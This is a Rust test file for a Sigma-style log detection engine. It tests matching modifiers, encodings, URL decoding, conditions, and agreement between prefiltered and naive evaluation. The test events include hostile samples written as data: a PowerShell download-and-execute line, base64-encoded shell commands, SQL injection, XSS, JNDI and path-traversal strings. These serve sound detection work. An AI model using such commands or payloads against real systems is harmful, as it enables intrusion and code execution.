//! Table tests that read like the Sigma spec: `check(detection, event,
//! expected)`, one line per feature; and a property test that the
//! prefiltered evaluation agrees with the naive one.

use std::borrow::Cow;

use logsentinel_core::{Category, Event, Format, Outcome, Timestamp};
use proptest::prelude::*;

use super::MatchScratch;
use crate::loader::{RuleSet, RuleSource};
use crate::mapping::FieldMapping;

/// A test event from (ECS name, value) pairs; `event.original` defaults to
/// the pairs joined.
pub(crate) fn event(fields: &[(&str, &str)]) -> Event<'static> {
    let mut ev = Event::new(Format::Json, "", Timestamp::from_secs(1_700_000_000));
    let mut original = None;
    for &(name, value) in fields {
        let s = || Some(Cow::Owned(value.to_string()));
        match name {
            "event.original" => original = Some(value.to_string()),
            "event.action" => ev.action = s(),
            "event.category" => ev.category = Category::parse(value),
            "event.outcome" => ev.outcome = Outcome::parse(value),
            "event.code" => ev.code = s(),
            "event.reason" => ev.reason = s(),
            "message" => ev.message = s(),
            "host.name" => ev.host_name = s(),
            "process.name" => ev.process_name = s(),
            "process.command_line" => ev.process_command_line = s(),
            "source.ip" => ev.source_ip = value.parse().ok(),
            "destination.ip" => ev.destination_ip = value.parse().ok(),
            "destination.port" => ev.destination_port = value.parse().ok(),
            "user.name" => ev.user_name = s(),
            "user.target.name" => ev.user_target_name = s(),
            "http.request.method" => ev.http_method = s(),
            "url.original" => ev.url_original = s(),
            "http.response.status_code" => ev.http_status = value.parse().ok(),
            "http.response.body.bytes" => ev.http_bytes = value.parse().ok(),
            "user_agent.original" => ev.user_agent = s(),
            "http.request.referrer" => ev.http_referrer = s(),
            other => {
                let v = value
                    .parse::<i64>()
                    .map_or_else(|_| serde_json::json!(value), |n| serde_json::json!(n));
                ev.extra.push((Cow::Owned(other.to_string()), v));
            }
        }
    }
    ev.original = Cow::Owned(original.unwrap_or_else(|| {
        fields
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join(" ")
    }));
    ev
}

fn rule_yaml(detection: &str) -> String {
    let body: String = detection
        .trim_matches('\n')
        .lines()
        .map(|l| format!("  {l}\n"))
        .collect();
    format!("title: t\nname: t\nlevel: low\ncategory: other\ndetection:\n{body}")
}

fn load(detection: &str) -> RuleSet {
    let src = RuleSource {
        name: "t.yml".into(),
        text: rule_yaml(detection),
    };
    match RuleSet::load(&[src], &FieldMapping::builtin()) {
        Ok(s) => s,
        Err(e) => panic!("{detection}\n{e:?}"),
    }
}

/// The rule `detection` must (not) match the event, by both evaluations.
#[track_caller]
fn check(detection: &str, fields: &[(&str, &str)], expected: bool) {
    let set = load(detection);
    let ev = event(fields);
    let mut out = Vec::new();
    set.matching_rules(&ev, &mut MatchScratch::default(), &mut out);
    assert_eq!(
        !out.is_empty(),
        expected,
        "fast: {detection}\n{fields:?}\n{}",
        set.explain(0, &ev).join("\n")
    );
    assert_eq!(
        set.matches_naive(0, &ev),
        Some(expected),
        "naive: {detection}\n{fields:?}"
    );
}

#[test]
fn plain_values() {
    let d = "sel:\n  event.outcome: failure\ncondition: sel";
    check(d, &[("event.outcome", "failure")], true);
    check(d, &[("event.outcome", "success")], false);
    check(d, &[], false);
    // Case-insensitive whole-value equality, not substring.
    check(
        "sel:\n  user.name: Root\ncondition: sel",
        &[("user.name", "ROOT")],
        true,
    );
    check(
        "sel:\n  user.name: root\ncondition: sel",
        &[("user.name", "root2")],
        false,
    );
    check(
        "sel:\n  user.name: root\ncondition: sel",
        &[("user.name", "xroot")],
        false,
    );
    // A list is an OR.
    let d = "sel:\n  user.name: [root, admin]\ncondition: sel";
    check(d, &[("user.name", "admin")], true);
    check(d, &[("user.name", "guest")], false);
    // A map is an AND.
    let d = "sel:\n  event.action: ssh_login\n  event.outcome: failure\ncondition: sel";
    check(
        d,
        &[("event.action", "ssh_login"), ("event.outcome", "failure")],
        true,
    );
    check(
        d,
        &[("event.action", "ssh_login"), ("event.outcome", "success")],
        false,
    );
    // A list of maps is an OR of ANDs.
    let d = "sel:\n  - user.name: root\n    event.outcome: failure\n  - user.name: admin\ncondition: sel";
    check(d, &[("user.name", "admin")], true);
    check(
        d,
        &[("user.name", "root"), ("event.outcome", "failure")],
        true,
    );
    check(
        d,
        &[("user.name", "root"), ("event.outcome", "success")],
        false,
    );
    // Empty string: present and empty.
    check(
        "sel:\n  user.name: ''\ncondition: sel",
        &[("user.name", "")],
        true,
    );
    check("sel:\n  user.name: ''\ncondition: sel", &[], false);
}

#[test]
fn numbers_match_integer_and_string_fields() {
    check(
        "sel:\n  http.response.status_code: 401\ncondition: sel",
        &[("http.response.status_code", "401")],
        true,
    );
    check(
        "sel:\n  http.response.status_code: 401\ncondition: sel",
        &[("http.response.status_code", "4010")],
        false,
    );
    check(
        "sel:\n  http.response.status_code: '401'\ncondition: sel",
        &[("http.response.status_code", "401")],
        true,
    );
    check(
        "sel:\n  event.code: 4625\ncondition: sel",
        &[("event.code", "4625")],
        true,
    );
    check(
        "sel:\n  EventID: 4625\ncondition: sel",
        &[("event.code", "4625")],
        true,
    );
    check(
        "sel:\n  sc-status: [401, 403]\ncondition: sel",
        &[("http.response.status_code", "403")],
        true,
    );
    // Hex stays text: it must match as written.
    check(
        "sel:\n  winlog.event_data.Status: 0xC000006D\ncondition: sel",
        &[("winlog.event_data.Status", "0xc000006d")],
        true,
    );
    // JSON extras that are numbers.
    check(
        "sel:\n  winlog.event_data.LogonType: 3\ncondition: sel",
        &[("winlog.event_data.LogonType", "3")],
        true,
    );
}

#[test]
fn wildcards() {
    let d = "sel:\n  url.original: '/wp-*'\ncondition: sel";
    check(d, &[("url.original", "/wp-login.php")], true);
    check(d, &[("url.original", "/x/wp-login.php")], false);
    check(
        "sel:\n  url.original: '*.php'\ncondition: sel",
        &[("url.original", "/a.PHP")],
        true,
    );
    check(
        "sel:\n  url.original: '*admin*'\ncondition: sel",
        &[("url.original", "/ADMIN/x")],
        true,
    );
    check(
        "sel:\n  url.original: '/a*/b?c'\ncondition: sel",
        &[("url.original", "/axx/bXc")],
        true,
    );
    check(
        "sel:\n  url.original: '/a*/b?c'\ncondition: sel",
        &[("url.original", "/axx/bc")],
        false,
    );
    check(
        "sel:\n  url.original: '*'\ncondition: sel",
        &[("url.original", "")],
        true,
    );
    check("sel:\n  url.original: '*'\ncondition: sel", &[], false);
    check(
        "sel:\n  url.original: 'a\\*'\ncondition: sel",
        &[("url.original", "a*")],
        true,
    );
    check(
        "sel:\n  url.original: 'a\\*'\ncondition: sel",
        &[("url.original", "ab")],
        false,
    );
    check(
        "sel:\n  user.name: '?'\ncondition: sel",
        &[("user.name", "é")],
        true,
    );
}

#[test]
fn string_modifiers() {
    let c = "sel:\n  url.original|contains: etc/passwd\ncondition: sel";
    check(c, &[("url.original", "/../../ETC/PASSWD")], true);
    check(c, &[("url.original", "/etc/shadow")], false);
    let s = "sel:\n  url.original|startswith: /admin\ncondition: sel";
    check(s, &[("url.original", "/Admin/login")], true);
    check(s, &[("url.original", "/x/admin")], false);
    let e = "sel:\n  url.original|endswith: .env\ncondition: sel";
    check(e, &[("url.original", "/app/.ENV")], true);
    check(e, &[("url.original", "/.env.bak")], false);
    // Wildcards inside modifiers still work.
    check(
        "sel:\n  url.original|contains: 'union*select'\ncondition: sel",
        &[("url.original", "/?id=1 UNION ALL SELECT 2")],
        true,
    );
    // all: every value.
    let a = "sel:\n  url.original|contains|all: [union, select]\ncondition: sel";
    check(a, &[("url.original", "/?q=union+select")], true);
    check(a, &[("url.original", "/?q=union")], false);
    // cased.
    let k = "sel:\n  process.name|cased: CRON\ncondition: sel";
    check(k, &[("process.name", "CRON")], true);
    check(k, &[("process.name", "cron")], false);
    let kc = "sel:\n  message|contains|cased: Failed\ncondition: sel";
    check(kc, &[("message", "x Failed y")], true);
    check(kc, &[("message", "x failed y")], false);
}

#[test]
fn regex_modifier() {
    let d = "sel:\n  user.name|re: '^adm[0-9]+$'\ncondition: sel";
    check(d, &[("user.name", "adm12")], true);
    check(d, &[("user.name", "ADM12")], false);
    check(d, &[("user.name", "adm")], false);
    check(d, &[], false);
    check(
        "sel:\n  user.name|re|i: '^adm[0-9]+$'\ncondition: sel",
        &[("user.name", "ADM12")],
        true,
    );
    // Regex on an integer field sees its text.
    check(
        "sel:\n  http.response.status_code|re: '^5..$'\ncondition: sel",
        &[("http.response.status_code", "503")],
        true,
    );
    // Together with literals: evaluated after them.
    let both = "sel:\n  event.action: ssh_login\n  user.name|re: '^x'\ncondition: sel";
    check(
        both,
        &[("event.action", "ssh_login"), ("user.name", "xy")],
        true,
    );
    check(
        both,
        &[("event.action", "sudo"), ("user.name", "xy")],
        false,
    );
}

#[test]
fn cidr_modifier() {
    let d = "sel:\n  source.ip|cidr: [10.0.0.0/8, '2001:db8::/32']\ncondition: sel";
    check(d, &[("source.ip", "10.9.8.7")], true);
    check(d, &[("source.ip", "2001:db8::5")], true);
    check(d, &[("source.ip", "203.0.113.9")], false);
    check(d, &[], false);
    check(
        "sel:\n  c-ip|cidr: 192.168.0.0/16\ncondition: sel",
        &[("source.ip", "192.168.1.1")],
        true,
    );
    check(
        "sel:\n  labels.client|cidr: 192.168.0.0/16\ncondition: sel",
        &[("labels.client", "192.168.1.1")],
        true,
    );
}

#[test]
fn ip_equality_is_canonical() {
    check(
        "sel:\n  source.ip: '2001:DB8:0::1'\ncondition: sel",
        &[("source.ip", "2001:db8::1")],
        true,
    );
    check(
        "sel:\n  source.ip: 10.0.0.1\ncondition: sel",
        &[("source.ip", "10.0.0.1")],
        true,
    );
    check(
        "sel:\n  source.ip: '10.0.0.*'\ncondition: sel",
        &[("source.ip", "10.0.0.77")],
        true,
    );
}

#[test]
fn exists_and_null() {
    check(
        "sel:\n  user.name|exists: true\ncondition: sel",
        &[("user.name", "x")],
        true,
    );
    check("sel:\n  user.name|exists: true\ncondition: sel", &[], false);
    check("sel:\n  user.name|exists: false\ncondition: sel", &[], true);
    check(
        "sel:\n  user.name|exists: false\ncondition: sel",
        &[("user.name", "")],
        false,
    );
    check("sel:\n  user.name: null\ncondition: sel", &[], true);
    check(
        "sel:\n  user.name: null\ncondition: sel",
        &[("user.name", "")],
        true,
    );
    check(
        "sel:\n  user.name: null\ncondition: sel",
        &[("user.name", "x")],
        false,
    );
    check(
        "sel:\n  user.name: [null, root]\ncondition: sel",
        &[("user.name", "root")],
        true,
    );
}

#[test]
fn numeric_comparisons() {
    let f =
        |op: &str, v: &str| format!("sel:\n  http.response.body.bytes|{op}: {v}\ncondition: sel");
    let ev = [("http.response.body.bytes", "1000")];
    check(&f("gt", "999"), &ev, true);
    check(&f("gt", "1000"), &ev, false);
    check(&f("gte", "1000"), &ev, true);
    check(&f("lt", "1000"), &ev, false);
    check(&f("lte", "1000"), &ev, true);
    check(&f("lt", "1e4"), &ev, true);
    check(&f("gt", "0"), &[], false);
    // Text fields holding numbers; JSON numbers.
    check(
        "sel:\n  event.code|gte: 4624\ncondition: sel",
        &[("event.code", "4625")],
        true,
    );
    check(
        "sel:\n  event.code|gte: 4624\ncondition: sel",
        &[("event.code", "abc")],
        false,
    );
    check(
        "sel:\n  labels.n|lt: 5\ncondition: sel",
        &[("labels.n", "3")],
        true,
    );
}

#[test]
fn encodings() {
    let b = "sel:\n  process.command_line|base64|contains: 'bash -i'\ncondition: sel";
    check(
        b,
        &[("process.command_line", "echo YmFzaCAtaQ== | base64 -d")],
        true,
    );
    let o = "sel:\n  process.command_line|base64offset|contains: '/bin/sh'\ncondition: sel";
    let enc = super::encoding::base64(b"curl x | /bin/sh -c");
    check(
        o,
        &[("process.command_line", &format!("powershell -enc {enc}"))],
        true,
    );
    check(
        o,
        &[("process.command_line", "powershell -enc AAAA")],
        false,
    );
    // PowerShell's -EncodedCommand is base64 of UTF-16LE.
    let wide =
        "sel:\n  process.command_line|wide|base64offset|contains: 'DownloadString'\ncondition: sel";
    let ps = |script: &str| {
        let enc =
            super::encoding::base64(&super::encoding::encode(script, super::modifier::Utf16::Le));
        format!("powershell.exe -NoP -enc {enc}")
    };
    check(
        wide,
        &[(
            "process.command_line",
            &ps("IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')"),
        )],
        true,
    );
    check(
        wide,
        &[("process.command_line", &ps("Get-Process | Sort-Object CPU"))],
        false,
    );
    // The UTF-8 encoding of the same script is not what `wide` looks for.
    let utf8 = super::encoding::base64(
        b"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
    );
    check(
        wide,
        &[("process.command_line", &format!("powershell -enc {utf8}"))],
        false,
    );
    let w = "sel:\n  process.command_line|windash|contains: ' -enc '\ncondition: sel";
    check(w, &[("process.command_line", "powershell/enc  abc")], false); // not a switch: no space before it
    check(w, &[("process.command_line", "powershell /enc  abc")], true);
    check(
        w,
        &[("process.command_line", "powershell \u{2013}enc  abc")],
        true,
    );
}

#[test]
fn keywords() {
    let d = "keywords:\n  - 'Failed password'\n  - 'authentication failure'\ncondition: keywords";
    check(
        d,
        &[("event.original", "sshd[1]: FAILED PASSWORD for root")],
        true,
    );
    check(
        d,
        &[("event.original", "pam_unix: authentication failure; user=x")],
        true,
    );
    check(
        d,
        &[("event.original", "Accepted password for root")],
        false,
    );
    check(
        "keywords: 'segfault'\ncondition: keywords",
        &[("event.original", "kernel: x segfault at 0")],
        true,
    );
    check(
        "keywords:\n  - 'seg*at'\ncondition: keywords",
        &[("event.original", "kernel: x segfault at 0")],
        true,
    );
    // Field-less modifiers apply to the raw line.
    check(
        "kw:\n  '|re': 'user=\\w+;'\ncondition: kw",
        &[("event.original", "x user=bob; y")],
        true,
    );
    check(
        "kw:\n  '|contains|all': [user, bob]\ncondition: kw",
        &[("event.original", "x user=bob; y")],
        true,
    );
    check(
        "kw:\n  '|contains|all': [user, eve]\ncondition: kw",
        &[("event.original", "x user=bob; y")],
        false,
    );
}

#[test]
fn conditions() {
    let sels = "a:\n  user.name: root\nb:\n  event.outcome: failure\nsel_x:\n  process.name: sshd\nsel_y:\n  process.name: sudo\n";
    let ev_root_fail = [
        ("user.name", "root"),
        ("event.outcome", "failure"),
        ("process.name", "sshd"),
    ];
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], bool);
    let table: &[Case] = &[
        ("a and b", &ev_root_fail, true),
        ("a and not b", &ev_root_fail, false),
        ("a or b", &[("event.outcome", "failure")], true),
        ("not a", &[("user.name", "bob")], true),
        ("not a", &[], true),
        (
            "(a or b) and sel_x",
            &[("event.outcome", "failure"), ("process.name", "sudo")],
            false,
        ),
        ("a or b and sel_y", &[("user.name", "root")], true),
        ("1 of sel_*", &[("process.name", "sudo")], true),
        ("all of sel_*", &[("process.name", "sudo")], false),
        ("1 of them", &[("process.name", "sudo")], true),
        ("all of them", &ev_root_fail, false),
        ("a and 1 of sel_*", &ev_root_fail, true),
        ("not 1 of sel_*", &[("process.name", "cron")], true),
    ];
    for (cond, ev, want) in table {
        check(&format!("{sels}condition: {cond}"), ev, *want);
    }
    // A list of conditions is an OR.
    check(
        &format!("{sels}condition:\n  - a\n  - b"),
        &[("event.outcome", "failure")],
        true,
    );
}

#[test]
fn sigma_field_names_are_mapped() {
    check(
        "sel:\n  c-ip: 203.0.113.7\n  cs-uri-query|contains: 'select'\ncondition: sel",
        &[("source.ip", "203.0.113.7"), ("url.original", "/?q=select")],
        true,
    );
    check(
        "sel:\n  TargetUserName: admin\ncondition: sel",
        &[("user.name", "admin")],
        true,
    );
    check(
        "sel:\n  cs-user-agent|contains: sqlmap\ncondition: sel",
        &[("user_agent.original", "sqlmap/1.7")],
        true,
    );
}

#[test]
fn non_ascii_and_hostile_values() {
    check(
        "sel:\n  user.name: 'jürgen'\ncondition: sel",
        &[("user.name", "JüRGEN")],
        true,
    );
    check(
        "sel:\n  user.name|contains: 'ü'\ncondition: sel",
        &[("user.name", "Ü")],
        false,
    );
    let long = "A".repeat(100_000);
    check(
        "sel:\n  url.original|contains: 'ab'\ncondition: sel",
        &[("url.original", &long)],
        false,
    );
    check(
        "sel:\n  url.original|re: 'b$'\ncondition: sel",
        &[("url.original", &long)],
        false,
    );
}

#[test]
fn several_rules_are_reported_in_order_and_scratch_is_reusable() {
    let text = [
        "title: r0\nlevel: low\ncategory: other\ndetection:\n  s:\n    user.name: root\n  condition: s\n",
        "title: r1\nlevel: low\ncategory: other\ndetection:\n  s:\n    source.ip|cidr: 10.0.0.0/8\n  condition: s\n",
        "title: r2\nlevel: low\ncategory: other\ndetection:\n  s:\n    user.name|contains: oo\n  condition: s\n",
        "title: r3\nlevel: low\ncategory: other\ndetection:\n  s:\n    user.name: admin\n  condition: not s\n",
    ]
    .join("---\n");
    let set = RuleSet::load(
        &[RuleSource {
            name: "m.yml".into(),
            text,
        }],
        &FieldMapping::default(),
    )
    .unwrap();
    let mut scratch = MatchScratch::default();
    let mut out = vec![99];
    let ev = event(&[("user.name", "root"), ("source.ip", "10.1.1.1")]);
    set.matching_rules(&ev, &mut scratch, &mut out);
    assert_eq!(out, vec![0, 1, 2, 3]);
    let ev = event(&[("user.name", "admin")]);
    set.matching_rules(&ev, &mut scratch, &mut out);
    assert!(out.is_empty());
    let ev = event(&[("user.name", "foo")]);
    set.matching_rules(&ev, &mut scratch, &mut out);
    assert_eq!(out, vec![2, 3]);
    // The same scratch with another rule set.
    let other = load("s:\n  user.name: foo\ncondition: s");
    other.matching_rules(&ev, &mut scratch, &mut out);
    assert_eq!(out, vec![0]);
    set.matching_rules(&ev, &mut scratch, &mut out);
    assert_eq!(out, vec![2, 3]);
}

#[test]
fn prefilter_skips_rules_without_their_literals() {
    let set = load("s:\n  user.name: root\n  url.original|re: '.'\ncondition: s");
    let m = &set.matcher;
    assert_eq!(m.literal_count(), 1);
    // The rule is only a candidate through its literal.
    assert!(m.always.iter().all(|&w| w == 0));
    let set = load("s:\n  url.original|re: '.'\ncondition: s");
    assert_eq!(set.matcher.always, vec![1]);
    let set = load("s:\n  user.name: root\ncondition: not s");
    assert_eq!(set.matcher.always, vec![1]);
}

#[test]
fn cheap_selections_are_evaluated_first() {
    let set = load("r:\n  user.name|re: 'x'\nl:\n  event.action: sudo\ncondition: r and l");
    let r = &set.matcher.rules[0];
    assert_eq!(
        r.cond,
        super::Cond::And(vec![super::Cond::Sel(1), super::Cond::Sel(0)])
    );
    assert_eq!(r.cond_src, "r and l");
}

#[test]
fn explain_tells_why() {
    let set = load(
        "sel:\n  event.action: ssh_login\n  user.name: [root, admin]\nfilter:\n  source.ip|cidr: 10.0.0.0/8\ncondition: sel and not filter",
    );
    let ev = event(&[
        ("event.action", "ssh_login"),
        ("user.name", "admin"),
        ("source.ip", "203.0.113.5"),
    ]);
    let lines = set.explain(0, &ev);
    let text = lines.join("\n");
    assert_eq!(lines[0], "rule `t` matches");
    assert!(
        text.contains("condition `sel and not filter`: true"),
        "{text}"
    );
    assert!(text.contains("selection `sel`: true"), "{text}");
    assert!(
        text.contains("user.name: admin => true (user.name = \"admin\")"),
        "{text}"
    );
    assert!(text.contains("user.name: root => false"), "{text}");
    assert!(text.contains("selection `filter`: false"), "{text}");
    assert!(
        text.contains("source.ip|cidr: 10.0.0.0/8 => false (source.ip = \"203.0.113.5\")"),
        "{text}"
    );
    let ev = event(&[("event.action", "sudo")]);
    let text = set.explain(0, &ev).join("\n");
    assert!(text.starts_with("rule `t` does not match"), "{text}");
    assert!(text.contains("user.name is absent"), "{text}");
    assert_eq!(set.explain(5, &ev), vec!["no rule #5".to_string()]);
}

#[test]
fn decoded_fields() {
    let d = "sel:\n  url.decoded|contains: \"' or 1=1\"\ncondition: sel";
    check(
        d,
        &[("url.original", "/p?id=%2527%2520OR%25201%253D1--")],
        true,
    );
    check(d, &[("url.original", "/p?id=1")], false);
    check(d, &[], false);
    // Path and query parts.
    let d = "sel:\n  url.path.decoded|endswith: /.env\ncondition: sel";
    check(d, &[("url.original", "/%2Eenv?x=1")], true);
    check(d, &[("url.original", "/x?f=/.env")], false);
    let d = "sel:\n  url.query.decoded|startswith: 'q=union select'\ncondition: sel";
    check(d, &[("url.original", "/s?q=UNION/**/SELECT+1")], true);
    check(d, &[("url.original", "/union select")], false);
    // A query that is absent vs empty.
    let d = "sel:\n  url.query.decoded|exists: true\ncondition: sel";
    check(d, &[("url.original", "/a?")], true);
    check(d, &[("url.original", "/a")], false);
    let d = "sel:\n  url.query.decoded: null\ncondition: sel";
    check(d, &[("url.original", "/a")], true);
    check(d, &[("url.original", "/a?")], true);
    check(d, &[("url.original", "/a?b")], false);
    // User agent and referrer; case is folded, so `re` needs no `i`.
    let d = "sel:\n  user_agent.decoded|re: '^\\$\\{jndi:'\ncondition: sel";
    check(
        d,
        &[("user_agent.original", "%24%7BJNDI:ldap://x/a}")],
        true,
    );
    check(d, &[("user_agent.original", "curl/8")], false);
    let d = "sel:\n  http.request.referrer.decoded|contains: '<script'\ncondition: sel";
    check(
        d,
        &[("http.request.referrer", "https://a/?q=%3CScRiPt%3E")],
        true,
    );
    check(
        d,
        &[("http.request.referrer", "https://a/?q=script")],
        false,
    );
    // Raw and decoded side by side.
    let d = "raw:\n  url.original|contains: '%2e%2e'\ndec:\n  url.decoded|contains: '../'\ncondition: dec and not raw";
    check(d, &[("url.original", "/a/..%c0%af..%c0%afetc")], true);
    check(d, &[("url.original", "/a/%2e%2e/etc")], false);
}

#[test]
fn injection_modifiers() {
    let d = "sel:\n  url.decoded|sqli: true\ncondition: sel";
    check(
        d,
        &[("url.original", "/p?id=1%27%20OR%20%271%27%3D%271")],
        true,
    );
    check(
        d,
        &[("url.original", "/p?id=-1/**/UNION/**/SELECT/**/1,2,3--")],
        true,
    );
    check(
        d,
        &[("url.original", "/api/products/1'%20or%20'1'='1")],
        true,
    );
    check(
        d,
        &[("url.original", "/search?q=union+station&sort=price")],
        false,
    );
    check(d, &[("url.original", "/search?q=O%27Brien+jacket")], false);
    check(d, &[], false);
    let d = "sel:\n  url.decoded|sqli: false\ncondition: sel";
    check(d, &[("url.original", "/p?id=1")], true);
    check(d, &[], true);
    check(d, &[("url.original", "/p?id=1'+or+'1'='1")], false);
    let d = "sel:\n  url.query.decoded|xss: true\ncondition: sel";
    check(
        d,
        &[("url.original", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E")],
        true,
    );
    check(
        d,
        &[(
            "url.original",
            "/s?q=&#x3c;img src=x onerror=alert(1)&#x3e;",
        )],
        true,
    );
    check(d, &[("url.original", "/s?q=%3Cb%3Ebold%3C/b%3E")], false);
    check(d, &[("url.original", "/<script>alert(1)</script>")], false);
    // Any text field will do, e.g. a JSON extra.
    let d = "sel:\n  json.comment|xss: true\ncondition: sel";
    check(d, &[("json.comment", "<svg onload=alert(1)>")], true);
    check(d, &[("json.comment", "a < b")], false);
    // Combined with literals, the prefilter still decides first.
    let set = load("sel:\n  url.decoded|sqli: true\n  url.decoded|contains: 'id='\ncondition: sel");
    assert!(set.matcher.always.iter().all(|&w| w == 0));
}

#[test]
fn explain_shows_decoded_values() {
    let set = load("sel:\n  url.decoded|contains: '../'\ncondition: sel");
    let ev = event(&[("url.original", "/a/%2e%2e%2fetc")]);
    let text = set.explain(0, &ev).join("\n");
    assert!(text.contains("url.decoded = \"/a/../etc\""), "{text}");
}

// --- fast == naive -------------------------------------------------------

const FIELDS: [&str; 4] = [
    "user.name",
    "url.original",
    "process.name",
    "http.response.status_code",
];

fn value_strategy() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "a", "ab", "ba", "aB", "abc", "b", "", "a*", "*b", "*a*", "a?c", "?", "a\\*", "404", "4*",
        "é", "*é*", "a*b*c",
    ])
    .prop_map(str::to_string)
}

fn event_value_strategy() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "a", "ab", "ba", "AB", "abc", "xabcx", "b", "", "a*", "aXc", "404", "401", "é", "xéx",
        "acbc", "%61b", "a%2Fb?c", "?ab", "A+B?a+b", "x%2561",
    ])
    .prop_map(str::to_string)
}

fn leaf_strategy() -> impl Strategy<Value = String> {
    let modifier = prop::sample::select(vec![
        "",
        "|contains",
        "|startswith",
        "|endswith",
        "|contains|all",
        "|cased",
        "|contains|cased",
        "|re",
        "|exists",
    ]);
    let fields: Vec<&str> = FIELDS
        .iter()
        .copied()
        .chain(["url.decoded", "url.path.decoded", "url.query.decoded"])
        .collect();
    (
        prop::sample::select(fields),
        modifier,
        prop::collection::vec(value_strategy(), 1..3),
    )
        .prop_map(|(field, m, values)| {
            let values: Vec<String> = match m {
                "|re" => values
                    .iter()
                    .map(|v| format!("'^{}'", v.replace(['*', '?', '\\'], ".")))
                    .collect(),
                "|exists" => vec![
                    if values[0].len() % 2 == 0 {
                        "true"
                    } else {
                        "false"
                    }
                    .to_string(),
                ],
                _ => values.iter().map(|v| format!("'{v}'")).collect(),
            };
            format!("{field}{m}: [{}]", values.join(", "))
        })
}

fn detection_strategy() -> impl Strategy<Value = String> {
    let sel = prop::collection::vec(leaf_strategy(), 1..3);
    let cond = prop::sample::select(vec![
        "s0",
        "s0 and s1",
        "s0 or s1",
        "s0 and not s1",
        "not s0",
        "1 of s*",
        "all of them",
        "(s0 or s1) and not s2",
        "s2 or not (s0 and s1)",
    ]);
    (prop::collection::vec(sel, 3), cond).prop_map(|(sels, cond)| {
        let mut out = String::new();
        for (i, leaves) in sels.iter().enumerate() {
            out.push_str(&format!("s{i}:\n"));
            for l in leaves {
                out.push_str(&format!("  {l}\n"));
            }
        }
        out.push_str(&format!("condition: {cond}"));
        out
    })
}

fn events_strategy() -> impl Strategy<Value = Vec<Vec<(usize, String)>>> {
    prop::collection::vec(
        prop::collection::vec((0..FIELDS.len(), event_value_strategy()), 0..4),
        1..6,
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn prefiltered_equals_naive(
        detections in prop::collection::vec(detection_strategy(), 1..4),
        events in events_strategy(),
    ) {
        let text = detections
            .iter()
            .enumerate()
            .map(|(i, d)| {
                let body: String = d.lines().map(|l| format!("  {l}\n")).collect();
                format!("title: r{i}\nlevel: low\ncategory: other\ndetection:\n{body}")
            })
            .collect::<Vec<_>>()
            .join("---\n");
        let set = match RuleSet::load(&[RuleSource { name: "p.yml".into(), text: text.clone() }], &FieldMapping::default()) {
            Ok(s) => s,
            // Some generated rules are invalid (e.g. `exists` with a list);
            // those are refused, never mis-compiled.
            Err(_) => return Ok(()),
        };
        let mut scratch = MatchScratch::default();
        let mut out = Vec::new();
        for fields in &events {
            let pairs: Vec<(&str, &str)> = fields
                .iter()
                .filter(|(f, v)| FIELDS[*f] != "http.response.status_code" || v.parse::<u16>().is_ok())
                .map(|(f, v)| (FIELDS[*f], v.as_str()))
                .collect();
            let ev = event(&pairs);
            set.matching_rules(&ev, &mut scratch, &mut out);
            let naive: Vec<usize> = (0..set.rules.len())
                .filter(|&r| set.matches_naive(r, &ev) == Some(true))
                .collect();
            prop_assert_eq!(&out, &naive, "rules:\n{}\nevent: {:?}", text, pairs);
        }
    }
}
